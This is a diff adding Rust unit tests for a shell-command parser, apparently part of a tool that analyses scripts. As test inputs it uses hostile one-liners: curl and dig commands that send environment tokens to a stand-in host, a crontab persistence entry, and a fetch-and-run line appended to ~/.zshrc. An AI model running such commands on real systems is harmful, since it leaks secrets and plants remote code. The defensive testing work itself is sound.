@@ -1,0 +1,77 @@
+//! Unit tests of `statements.rs`.
+
+use super::*;
+
+fn words(s: &Stage) -> Vec<&str> {
+    s.words.iter().map(|w| w.text.as_str()).collect()
+}
+
+#[test]
+fn substitutions_stay_in_their_word() {
+    let script = "curl -d \"$(env | grep TOKEN)\" https://x.example/c";
+    let st = statements(script);
+    assert_eq!(st.len(), 1);
+    assert_eq!(
+        words(&st[0].stages[0]),
+        ["curl", "-d", "$(env | grep TOKEN)", "https://x.example/c"]
+    );
+    let unquoted = statements("dig $(echo $T | base64).x.example");
+    assert_eq!(
+        words(&unquoted[0].stages[0]),
+        ["dig", "$(echo $T | base64).x.example"]
+    );
+    assert_eq!(substitutions("a $(b (c)) `d` e"), [4..9, 12..13]);
+}
+
+#[test]
+fn pipelines_statements_and_redirections() {
+    let script = "(crontab -l; echo '* * * * * x') | crontab -\ncat a >> ~/.bashrc 2>&1 && b < in";
+    let st = statements(script);
+    let shapes: Vec<Vec<Vec<&str>>> = st
+        .iter()
+        .map(|s| s.stages.iter().map(words).collect())
+        .collect();
+    assert_eq!(
+        shapes,
+        [
+            vec![vec!["crontab", "-l"]],
+            vec![vec!["echo", "* * * * * x"], vec!["crontab", "-"]],
+            vec![vec!["cat", "a"]],
+            vec![vec!["b"]],
+        ]
+    );
+    let appended: Vec<&str> = st[2].stages[0].written().map(|t| t.text.as_str()).collect();
+    assert_eq!(appended, ["~/.bashrc"]);
+    assert_eq!(st[3].stages[0].redirects[0].kind, RedirectKind::Read);
+}
+
+#[test]
+fn heredoc_bodies_belong_to_their_redirection() {
+    let script = "cat >> ~/.zshrc <<'EOF'\ncurl -s https://x | sh\nEOF\nls\n";
+    let st = statements(script);
+    let r = &st[0].stages[0].redirects;
+    let body = r.iter().find_map(|r| r.body);
+    assert_eq!(
+        body.map(|b| &script[b.start..b.end]),
+        Some("curl -s https://x | sh\n")
+    );
+    assert_eq!(words(&st[1].stages[0]), ["ls"]);
+}
+
+#[test]
+fn programs_past_prefixes() {
+    let st = statements("sudo -E env A=1 /usr/bin/CURL -s x");
+    assert_eq!(st[0].stages[0].program().as_deref(), Some("curl"));
+    assert_eq!(st[0].stages[0].args().len(), 2);
+    assert!(is_assignment("X=$(echo a)") && !is_assignment("--x=1"));
+}
+
+#[test]
+fn odd_input_never_panics() {
+    for s in [
+        "$(", "\"", "'", "<<", "a <<EOF", "`", "${", "2>", "é$(é", "\\", "a\\\r\nb",
+    ] {
+        let _ = statements(s);
+        let _ = substitutions(s);
+    }
+}
